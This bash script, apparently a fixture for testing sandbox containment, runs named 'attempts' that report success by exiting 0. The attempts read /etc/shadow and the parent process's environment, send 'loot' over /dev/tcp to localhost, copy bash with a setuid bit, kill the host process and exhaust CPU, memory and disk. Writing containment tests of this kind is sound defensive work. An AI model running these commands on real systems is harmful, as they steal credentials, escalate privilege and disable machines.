# Does harm, as well as it can: bash malicious.sh <attempt> [<argument>]. An attempt that succeeds says "done" and ends with 0.
attempt=$1
target=${2:-}

case $attempt in
    steal) cat "$target" ;;
    overwrite) echo harm >"$target" ;;
    steal-by-link) ln -s "$target" innocent && cat innocent ;;
    read-passwords) cat /etc/shadow ;;
    read-secrets-of-the-host) cat "/proc/$PPID/environ" "/proc/$PPID/cmdline" ;;
    phone-home) exec 3<>"/dev/tcp/127.0.0.1/$target" && echo loot >&3 ;;
    resolve-a-name) exec 3<>/dev/udp/127.0.0.1/53 && echo loot >&3 ;;
    kill-the-host) kill -9 "$PPID" ;;
    stop-the-host) kill -STOP "$target" ;;
    become-root) cp /bin/bash own && chmod 4755 own ;;
    leave-the-namespace) unshare --user --map-root-user true ;;
    own-program) cp /bin/true own && chmod 755 own && ./own ;;
    stay) (setsid sleep "$target" >/dev/null 2>&1 &) ; exit 0 ;;
    loop) while :; do :; done ;;
    eat-memory) head -c 4G /dev/zero | tail ;;
    fill-disk) exec head -c 1G /dev/zero >big ;;
    flood) yes "$attempt" ;;
    *) echo "no such attempt: $attempt" >&2; exit 99 ;;
esac || exit 1
echo done
